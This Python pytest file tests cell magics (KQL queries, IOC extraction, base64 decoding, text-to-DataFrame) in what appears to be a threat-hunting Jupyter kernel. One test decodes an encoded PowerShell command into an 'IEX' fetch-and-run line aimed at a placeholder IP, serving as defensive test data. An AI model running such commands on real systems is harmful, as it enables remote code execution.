"""Cell magics through jupyter_client: `%%kql`, `%%ioc`, `%%b64`, `%%txt2df`, `%help`,
errors for unknown magics and bad arguments, binding results for the next Rust cell,
and completion of magic names."""

from __future__ import annotations

import pytest

from huntrs_testing import run, run_ok, send_shell, start_kernel, stop_kernel, wait_reply


@pytest.fixture(scope="module")
def kc():
    km, kc = start_kernel()
    yield kc
    stop_kernel(km, kc)


def shown(cell, mime: str = "text/plain") -> str:
    """Everything the cell displayed in `mime`, joined."""
    return "\n".join(
        out["content"]["data"].get(mime, "")
        for out in cell.outputs
        if out["msg_type"] in ("display_data", "execute_result")
    )


def test_kql_shows_the_table_and_binds_it(kc):
    cell = run_ok(
        kc,
        "%%kql -> failures\n"
        "SecurityEvent\n"
        "| where EventID == 4625\n"
        "| summarize n = count() by Computer\n"
        "| sort by n desc",
    )
    table = shown(cell)
    assert "SRV-APP01.corp.larkmoor.com" in table, cell.describe()
    assert "<table" in shown(cell, "text/html"), cell.describe()
    # The bound DataFrame is a polars frame in the next Rust cell.
    cell = run_ok(kc, "failures.height() > 0 && failures.get_column_names()[1] == \"n\"")
    assert cell.result == "true", cell.describe()


def test_kql_errors_point_at_the_query(kc):
    cell = run(kc, "%%kql\nSecurityEvent | wherr EventID == 1")
    assert cell.status == "error", cell.describe()
    assert cell.error["ename"] == "KqlError"
    text = "\n".join(cell.error["traceback"])
    assert "line 1, column 17" in text and "^^^^^" in text, text
    cell = run(kc, "%%kql Splnuk\nSecurityEvent")
    assert cell.status == "error"
    assert cell.error["ename"] == "DataError"
    assert "Did you mean `Splunk`" in cell.error["evalue"]
    # The kernel is fine afterwards.
    assert run_ok(kc, "1 + 1").result == "2"


def test_ioc_b64_and_txt2df(kc):
    cell = run_ok(kc, "%%ioc ipv4 url -> found\nbeacon hxxp://cdn[.]kestrelsync[.]net/x from 10.10.20.76")
    table = shown(cell)
    assert "10.10.20.76" in table and "http://cdn.kestrelsync.net/x" in table, cell.describe()
    assert run_ok(kc, "found.height()").result == "2"

    cell = run_ok(kc, "%%b64\npowershell -enc SQBFAFgAIAAoAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACkA")
    assert "IEX (http://198.51.100.7/a)" in shown(cell), cell.describe()

    cell = run_ok(kc, "%%txt2df --sep ; -> hosts\nhost; logons\nWS-014; 3\nSRV-FS01; 12")
    assert "SRV-FS01" in shown(cell)
    assert run_ok(kc, "hosts.column(\"logons\").unwrap().dtype().to_string()").result == '"i64"'


def test_help_and_unknown_magics(kc):
    cell = run_ok(kc, "%help")
    text = shown(cell)
    for name in ("%%kql", "%%ioc", "%%b64", "%%txt2df"):
        assert name in text, text
    cell = run(kc, "%%sql\nselect 1")
    assert cell.status == "error"
    assert cell.error["ename"] == "MagicError"
    assert "unknown magic `%%sql`" in cell.error["evalue"] and "%%kql" in cell.error["evalue"]
    cell = run(kc, "%%kql -> 9lives\nSecurityEvent")
    assert cell.status == "error" and "Rust variable name" in cell.error["evalue"]


def test_magic_names_complete_and_cells_are_complete(kc):
    msg_id = send_shell(kc, "complete_request", {"code": "%%tx", "cursor_pos": 4})
    reply = wait_reply(kc, msg_id)["content"]
    assert reply["matches"] == ["%%txt2df"]
    assert (reply["cursor_start"], reply["cursor_end"]) == (0, 4)
    msg_id = send_shell(kc, "is_complete_request", {"code": "%%kql\nSecurityEvent | where ("})
    assert wait_reply(kc, msg_id)["content"]["status"] == "complete"


def test_progress_bar_output_ends_at_its_final_count(kc):
    """Saved notebooks keep outputs, not widget messages: a finished progress bar
    replaces its own output with the final count."""
    cell = run_ok(
        kc,
        'let mut qp = data::QueryProvider::new("LocalData")?;\n'
        "let failures = qp\n"
        '    .query("WindowsSecurity.list_logon_failures")\n'
        "    .split_by(std::time::Duration::from_secs(24 * 3600))\n"
        "    .run()?;\n"
        "failures.height()",
    )
    shown_ids = [
        out["content"]["transient"].get("display_id")
        for out in cell.outputs
        if out["msg_type"] == "display_data"
    ]
    updates = [out for out in cell.outputs if out["msg_type"] == "update_display_data"]
    assert updates, cell.describe()
    final = updates[-1]["content"]
    assert final["transient"]["display_id"] in shown_ids, cell.describe()
    assert "(100%)" in final["data"]["text/plain"], cell.describe()
